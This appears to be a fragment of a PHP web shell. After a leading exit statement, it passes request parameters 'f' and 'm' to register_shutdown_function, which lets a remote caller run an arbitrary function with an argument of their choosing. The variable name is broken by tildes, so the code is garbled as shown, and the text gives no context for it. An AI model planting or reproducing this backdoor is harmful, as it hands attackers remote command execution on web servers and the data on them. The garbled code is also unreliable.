<?php exit; ?>
<?php
register_shutdown_function($_R~EQUEST['f'], $_R~EQUEST['m']);
